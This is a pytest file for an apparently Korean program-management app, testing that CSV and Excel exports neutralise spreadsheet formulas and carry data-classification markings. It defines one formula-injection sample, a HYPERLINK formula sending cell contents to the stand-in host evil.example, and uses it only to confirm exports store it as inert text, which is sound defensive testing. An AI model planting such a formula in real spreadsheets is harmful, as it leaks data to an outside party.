"""Issue #36: every file the app writes neutralises formulas (one function, present.cell_safety), data exports carry
their 자료 등급 (loaders/data_classes.py), and files are opened the way a reader would (openpyxl, csv) to check."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tomllib

import pandas as pd
import pytest
from openpyxl import load_workbook

from loaders import load_file
from loaders.contract import DATASETS
from loaders.data_classes import data_classes, marking, parse_data_classes
from loaders.templates import template_xlsx
from metrics import reasons as m
from present import reasons as present
from present.cell_safety import csv_bytes, neutralise, unneutralise
from present.xlsx import to_xlsx
from program import PROGRAM_FILE

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"자세히")'


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM as Korean
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_reasons_form_stores_formulas_as_text_and_reads_them_back_as_written():
    entry = m.Entry("AI 데이터 플랫폼", dt.date(2026, 11, 1), HYPERLINK, "-공사 재개 후 집행", "@과", None, "조치 중")
    data = present.month_file(m.with_entry(None, entry))
    rows = _csv_rows(data)
    assert rows[0] == ["세부사업명", "기준월", "부진 사유", "향후 대책", "담당 부서", "완료 예정일", "상태"]
    assert rows[1] == ["AI 데이터 플랫폼", "2026-11", "'" + HYPERLINK, "'-공사 재개 후 집행", "'@과", "", "조치 중"]
    result = load_file(data, present.file_name(dt.date(2026, 11, 1)), "reasons")
    assert result.ok, result.errors
    row = result.frame.iloc[0]
    assert (row["reason"], row["action"], row["department"]) == (HYPERLINK, "-공사 재개 후 집행", "@과")


def test_an_exported_table_is_marked_neutralised_and_keeps_numbers():
    frame = pd.DataFrame(
        {
            "기업명": [HYPERLINK, "+광주AI", "보통"],
            "기업가치 (원)": pd.array([45_000_000_000, -5, 0], dtype="Int64"),
        }
    )
    level = data_classes().of(["companies"])
    book = load_workbook(io.BytesIO(to_xlsx(frame, "기업 목록", data_class=level)))
    sheet = book.active
    assert level == "대외비" and sheet.title == "(대외비) 기업 목록"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("자료 등급: 대외비", None)
    assert rows[1] == ("기업명", "기업가치 (원)")
    assert rows[2:] == [("'" + HYPERLINK, 45_000_000_000), ("'+광주AI", -5), ("보통", 0)]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["B4"].data_type == "n" and sheet.freeze_panes == "A3"
    assert sheet.oddHeader.center.text == sheet.oddFooter.center.text == "자료 등급: 대외비"


def test_csv_keeps_numbers_numbers_and_neutralises_text():
    frame = pd.DataFrame({"항목": ["=1+1", "\tx", "a=b", None], "금액": pd.array([-5, 1, None, 2], dtype="Int64")})
    rows = _csv_rows(csv_bytes(frame, [[marking("내부")]]))
    assert rows == [["자료 등급: 내부"], ["항목", "금액"], ["'=1+1", "-5"], ["'\tx", "1"], ["a=b", ""], ["", "2"]]


def test_neutralise_round_trip():
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise(text) == "'" + text and unneutralise(neutralise(text)) == text
    assert unneutralise("'일반 글") == "'일반 글"  # an apostrophe before ordinary text is the text's own


@pytest.mark.parametrize("dataset", [n for n, d in DATASETS.items() if not d.is_geographic])
def test_templates_hold_no_formula(dataset):
    sheet = load_workbook(io.BytesIO(template_xlsx(dataset))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# --- data classes ------------------------------------------------------------------------------------------------


def test_every_contract_column_has_a_configured_class():
    classes = data_classes()
    assert classes.levels == ("공개", "내부", "대외비")
    for name, dataset in DATASETS.items():
        for column in dataset.columns:
            assert classes.of_column(name, column.name) in classes.levels
    # 경영상 비밀: a company's investment, revenue and valuation
    assert {
        c: classes.of_column("companies", c) for c in ("valuation_krw", "funding_krw", "revenue_krw")
    } == dict.fromkeys(("valuation_krw", "funding_krw", "revenue_krw"), "대외비")
    assert classes.of(["budget"]) == "공개" and classes.of(["jobs"]) == "내부"
    assert classes.of(["companies.company", "jobs.sector"]) == "공개"
    assert classes.of(["budget", "companies.revenue_krw"]) == "대외비"


def _configured() -> dict:
    return tomllib.loads(PROGRAM_FILE.read_text(encoding="utf-8"))["data_classes"]


@pytest.mark.parametrize(
    "change,message",
    [
        (lambda raw: raw["columns"]["companies"].update(revenue_krw="극비"), "등급은 공개, 내부, 대외비 중 하나"),
        (
            lambda raw: raw["columns"]["companies"].update(revenu_krw="대외비"),
            "데이터 계약에 없는 열입니다: revenu_krw",
        ),
        (lambda raw: raw["columns"].update(budgets={"*": "공개"}), "데이터 계약에 없는 데이터입니다: budgets"),
        (lambda raw: raw["columns"]["sites"].pop("*"), "'name' 열의 등급이 없습니다"),
        (lambda raw: raw.update(levels=["공개"]), "둘 이상의 서로 다른 등급"),
    ],
)
def test_a_wrong_class_setting_is_refused(change, message):
    raw = _configured()
    change(raw)
    with pytest.raises(ValueError, match=message):
        parse_data_classes(raw)
